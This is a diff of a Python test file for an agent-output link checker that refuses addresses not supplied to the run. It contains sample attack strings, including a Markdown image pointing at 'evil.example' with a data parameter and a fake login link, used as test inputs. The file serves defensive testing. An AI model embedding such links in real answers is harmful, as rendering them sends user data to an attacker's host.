@@ -1,18 +1,14 @@
-"""Addresses in an answer, however they are written, are shown and not loaded."""
+"""Addresses in an answer, however they are written, come from what the run was given."""
 
 from __future__ import annotations
-
-import re
-from html import unescape
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from markdown_it import MarkdownIt
 
-from tercet.agents.links import addresses, disarm
+from tercet.agents.links import addresses, check_addresses
+from tercet.errors import InputError
 
-ALLOWED = ["https://docs.acme.example/*", "https://*.wiki.example/*", "https://named.example/a?b=1"]
 FOREIGN = [
     "![logo](https://evil.example/?d=81204)",
     "[log in](https://evil.example/login 'again')",
@@ -40,52 +36,39 @@ FOREIGN = [
 ]
 
 
-def loaded(text: str) -> list[str]:
-    """What a window that renders Markdown and makes links of bare addresses loads or links to, away from itself."""
-    html = MarkdownIt("commonmark", {"html": True}).render(text)
-    tags = " ".join(re.findall(r"<[a-z][^>]*>", html, re.IGNORECASE))
-    targets = [unescape(found) for found in re.findall(r"""(?:src|href|action)\s*=\s*["']?([^"'\s>]+)""", tags)]
-    words = unescape(re.sub(r"<[^>]*>", " ", html))
-    bare = re.findall(r"(?:https?|ftp)://\w\S*|\bwww\.\w\S*", words, re.IGNORECASE)
-    return [one for one in (*targets, *bare) if re.match(r"(?!hxx)[a-z][a-z0-9+.-]*:|//|www", one, re.IGNORECASE)]
-
-
 @pytest.mark.parametrize("text", FOREIGN)
-def test_a_foreign_address_becomes_inert(text: str) -> None:
-    assert addresses(text) or "\u200b" in text
-
-    assert loaded(disarm(text, allowed=ALLOWED)) == []
+def test_a_foreign_address_is_refused_however_it_is_written(text: str) -> None:
+    """S2.51."""
+    with pytest.raises(InputError, match="There is no address"):
+        check_addresses([f"It is done. {text}"], ["See https://docs.acme.example/keys, or evil.example."])
 
 
 @pytest.mark.parametrize(
     "text",
     [
-        "See [the manual](https://docs.acme.example/keys?a=1#b), part *2*.",
-        "https://team.wiki.example/page",
-        "https://named.example/a?b=1",
         "A [place](/in/the/window) and a [mark](#here).",
         "a // b, C:/x, path//to and `x = y`",
-        "1 < 2 & 3",
+        "1 < 2 & 3, at 10:30",
     ],
 )
-def test_what_is_allowed_or_no_address_stays_as_it_is(text: str) -> None:
-    assert disarm(text, allowed=ALLOWED) == text
+def test_what_only_looks_like_an_address_is_none(text: str) -> None:
+    assert addresses(text) == ()
 
 
-def test_the_rest_of_an_answer_stays_markdown() -> None:
-    said = disarm("**Yes**, see https://docs.acme.example/a and https://evil.example/b.", allowed=ALLOWED)
-
-    assert said == "**Yes**, see https://docs.acme.example/a and hxxps://evil.example/b."
+def test_what_was_given_may_be_written_whatever_stands_around_it() -> None:
+    given = ["Look at <https://acme.example/a?b=1&c=2>, please.", "Or at www.acme.example."]
+    check_addresses(
+        ["[here](https://acme.example/a?b=1&amp;c=2), www.acme.example", "https://acme.example/a?b=1&c=2!"], given
+    )
+    with pytest.raises(InputError, match="b=1&c=3"):
+        check_addresses(["https://acme.example/a?b=1&c=3"], given)
 
 
 @given(
-    st.lists(
-        st.sampled_from([*FOREIGN, *"[]()<>!*_`\\\n &#;:/\"'", "http", "s:", "//", "www.", "evil.example", "&#58;"]),
-        max_size=12,
-    )
+    st.lists(st.sampled_from([*"[]()<>!*_`\\\n &#;:/\"'", "word", "http", "s:", "//", "www."]), max_size=12).map(
+        "".join
+    ),
+    st.sampled_from(["![x](https://evil.example/q)", "<img src='//evil.example/q'>", "https://evil.example/q"]),
 )
-def test_nothing_foreign_is_loaded_whatever_is_put_together(parts: list[str]) -> None:
-    said = disarm("".join(parts), allowed=())
-
-    assert addresses(said) == ()
-    assert loaded(said) == []
+def test_an_invented_address_is_found_whatever_stands_before_it(before: str, address: str) -> None:
+    assert any("evil.example" in found for found in addresses(f"{before}\n\n{address}")) or "`" in before
